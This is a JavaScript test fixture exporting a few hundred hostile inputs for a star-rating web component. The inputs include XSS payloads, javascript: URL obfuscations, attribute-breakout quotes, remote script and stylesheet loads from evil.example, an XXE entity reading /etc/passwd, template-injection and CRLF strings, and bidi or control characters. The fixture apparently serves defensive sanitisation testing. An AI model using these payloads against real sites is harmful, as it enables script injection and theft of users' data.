// Texts that want to be more than text: 300 and more, each in every place where a picture shows a text.
const SCRIPT = "globalThis.hit=1";

const MARKUP = [
  `<script>${SCRIPT}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=${SCRIPT}>`, `<img/src=x/onerror=${SCRIPT}//`, `<svg onload=${SCRIPT}>`,
  `<svg/onload=${SCRIPT}>`, `<svg><script>${SCRIPT}</script></svg>`, `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`, `<svg><a href="javascript:${SCRIPT}"><text y=9>x`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${SCRIPT}/>#x">`, `<svg><foreignObject><iframe srcdoc="<script>${SCRIPT}</script>">`,
  `<svg><style><img src=x onerror=${SCRIPT}></style>`, `<svg><title><img src=x onerror=${SCRIPT}></title>`, `<svg><desc><b>x</b></desc>`, `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `<math href="javascript:${SCRIPT}">x`, `<iframe src="javascript:${SCRIPT}">`, `<iframe srcdoc="<script>parent.hit=1</script>">`, `<object data="javascript:${SCRIPT}">`, `<embed src="javascript:${SCRIPT}">`,
  `<base href="//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`, `<style>@import "//evil.example/x.css"</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`, `<form action="javascript:${SCRIPT}"><button>x`, `<button formaction="javascript:${SCRIPT}">`, `<input autofocus onfocus=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`, `<video><source onerror=${SCRIPT}>`, `<audio src=x onerror=${SCRIPT}>`, `<body onload=${SCRIPT}>`, `<html onmouseover=${SCRIPT}>`, `<marquee onstart=${SCRIPT}>`,
  `<a href="javascript:${SCRIPT}">x</a>`, `<a href=//evil.example>x</a>`, `<b>bold</b>`, `<!-- comment -->`, `<!--><img src=x onerror=${SCRIPT}>`, `--><img src=x onerror=${SCRIPT}>`, `--!><img src=x onerror=${SCRIPT}>`,
  `<![CDATA[x]]>`, `]]><img src=x onerror=${SCRIPT}>`, `<?xml version="1.0"?>`, `<?php echo 1 ?>`, `<!doctype html>`, `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`, `<%= 1 %>`,
  `</title><script>${SCRIPT}</script>`, `</text><script>${SCRIPT}</script>`, `</svg><script>${SCRIPT}</script>`, `</style><script>${SCRIPT}</script>`, `</script><script>${SCRIPT}</script>`,
  `</template><script>${SCRIPT}</script>`, `</textarea><script>${SCRIPT}</script>`, `</noscript><img src=x onerror=${SCRIPT}>`, `</li></ol><img src=x onerror=${SCRIPT}>`, `</td></tr></table><img src=x onerror=${SCRIPT}>`,
  `</button><button onclick=${SCRIPT}>`, `</a><a href="javascript:${SCRIPT}">x`, `</starwise-stars><script>${SCRIPT}</script>`, `<template shadowrootmode=open><script>${SCRIPT}</script></template>`,
  `<slot name=x></slot>`, `<starwise-stars value=5></starwise-stars>`, `<x-y is=z>`, `<`, `>`, `<>`, `</`, `<a`, `<a `, `<a b`, `<a b=`, `<a b="`, `<a b='`, `<!`, `<!-`, `<!--`, `<?`, `</a`, `<\u0000script>${SCRIPT}</script>`, `<scr\u0000ipt>`, `<\nscript>`, `<script\n>${SCRIPT}</script\n>`,
  `\uff1cscript\uff1e${SCRIPT}\uff1c/script\uff1e`, `\u2039script\u203a`, `&lt;script&gt;${SCRIPT}&lt;/script&gt;`, `&#60;script&#62;`, `&#x3c;script&#x3e;`, `&#0000060script>`, `&LT;script&GT;`, `&lt`, `&`, `&amp`, `&amp;`, `&amp;lt;`, `&#0;`, `&#x0;`, `&#xd800;`, `&#x10ffff;`, `&#99999999;`, `&nbsp;`, `&bogus;`, `&&&`, `a&b=c&copy=1`, `&newline;&tab;`,
];

const QUOTES = [
  `"`, `'`, "`", `""`, `''`, "``", `"'`, `'"`, `" onmouseover=${SCRIPT} x="`, `' onmouseover=${SCRIPT} x='`, `" autofocus onfocus=${SCRIPT} tabindex=1 x="`, `" style="position:fixed;inset:0" x="`, `"><script>${SCRIPT}</script>`,
  `'><script>${SCRIPT}</script>`, `"/><img src=x onerror=${SCRIPT}>`, `" data-starwise-action="dismiss" x="`, `" id="x" class="y`, `" href="javascript:${SCRIPT}`, `" xlink:href="javascript:${SCRIPT}`, `\\"`, `\\'`, `\\`, `\\\\`, `\\u0022`, `%22`, `%27`, `&quot;`, `&#34;`, `&#39;`, `&apos;`,
  `\u201c`, `\u2019`, `\u00b4`, `=`, `a=b`, `/`, `//`, `/>`, `/*`, `*/`, `-->`, `x" y`, `x' y`, "x` y", `" "`, `aria-label="x"`, `"\u0000"`, `"\n"`, `"\r\n`, `"\t`, `"\f`, `"\u2028`,
];

const LINKS = [
  "javascript:", "JAVASCRIPT:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "\njavascript:", "\rjavascript:", "\u0000javascript:", "\u0001javascript:", "\u001fjavascript:", "\u00a0javascript:", "\ufeffjavascript:", "\u2028javascript:", "\u200bjavascript:",
  "java\tscript:", "java\nscript:", "java\rscript:", "java\u0000script:", "java\u00adscript:", "javascript\t:", "javascript\n:", "javascript :", "j\na\nv\na\ns\nc\nr\ni\np\nt:", "javascript&colon;", "javascript&#58;", "javascript&#x3A;", "&#106;avascript:", "&#x6A;avascript:", "javascript%3A",
  "%6aavascript:", "jav&Tab;ascript:", "jav&NewLine;ascript:", "javascript://%0a", "javascript://%0d", "javascript:/**/", "javascript:void(0),", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "vbscript:", "livescript:", "mocha:", "\uff4aavascript:", "javascr\u0131pt:", "JAVA\u017fCRIPT:",
].map((scheme) => scheme + SCRIPT).concat([
  "data:text/html,<script>globalThis.hit=1</script>", "DATA:text/html;base64,PHNjcmlwdD4=", " data:text/html,x", "data:image/svg+xml,<svg onload=hit=1>", "data:,", "blob:https://evil.example/1", "file:///etc/passwd", "filesystem:x", "about:blank", "about:srcdoc", "ftp://x/", "ws://x/", "tel:1", "sms:1", "intent://x#Intent;end", "chrome://settings",
  "\\\\evil.example\\x", "/\\evil.example", "\\/evil.example", "///evil.example", "http:\\\\evil.example", "http:/\t/evil.example", "https://user:pass@evil.example/", "https://evil.example\u0000.example.org/", "http://[::1]/", "http://", "https:", "mailto:", "mailto:a@b?subject=%0d%0aBcc:x", "?x=<b>", "#\"><b>", "./a b", "../..", ":", ":x", "1:x", "a:b", "x:javascript:hit=1", "%",
]);

const CONTROLS = [
  ...Array.from({ length: 33 }, (_, code) => `a${String.fromCharCode(code === 32 ? 127 : code)}b`),
  "\u0000", "\u0080", "a\u0085b", "a\u009fb", "a\u00a0b", "\u00ad", "\u200b", "\u200d", "\u2028", "\u2029", "\u2060", "\ufeff", "\ufffd", "\ufffe", "\uffff", "\ufff9x\ufffb", "\ud800", "\udfff", "a\ud83d", "\ude00a", "\ude00\ud83d", "\ud800\ud800", "\u{1fffe}", "\u{10ffff}", "\u{e0041}", "\u{e0001}",
  "\u202etxt.exe", "\u202dx", "\u2066x", "\u2067x\u2069", "\u200f!", "\u200ex", "\u061cx", "\u202a\u202a\u202a", "x\u202c\u202c", "\u05d0\u05d1 abc 123", "\u0645\u0631\u062d\u0628\u0627 <b>", "e\u0301", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334", "\u0301".repeat(500), "\ufdfd", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\u{1f1e9}\u{1f1ea}", "\u{1d54f}", "\u0130\u0131\u00df", " ", "   ", "\t", "\n", " a ", "a\r\nb",
];

const TEMPLATES = [
  "{}", "{", "}", "{{", "}}", "{{}}", "{label}", "{text}", "{stars}", "{x|y}", "{{constructor.constructor('hit=1')()}}", "${hit=1}", "`${hit=1}`", "#{hit=1}", "<%=hit=1%>", "{%x%}", "$", "$$", "$1", "$&", "$`", "$'", "%s", "%d%n", "%00", "%", "\\0", "\\n", "\\x3c", "\\u003c", "__proto__", "constructor", "toString", "prototype",
  "null", "undefined", "NaN", "true", "0", "-1", "1e309", "[object Object]", "url(javascript:hit=1)", "url(#x)", "expression(hit=1)", "red;background:url(//evil.example)", "red}*{color:blue", "var(--x)", "calc(1px)", "inherit", "#", "#ggg", "rgb(", "rgb(0,0,0", "currentcolor;", "@import", "</style>", "a b c", "a.b", "a#b", "a>b", "*",
];

const LONG = ["a".repeat(10_000), "<".repeat(10_000), "&".repeat(10_000), "\"".repeat(10_000), "\u{1f600}".repeat(5_000), "a ".repeat(5_000), "<b>".repeat(3_000), "\ud800".repeat(10_000), "{".repeat(10_000), "\u202e".repeat(10_000)];

export const HOSTILE = [...new Set([...MARKUP, ...QUOTES, ...LINKS, ...CONTROLS, ...TEMPLATES, ...LONG])];
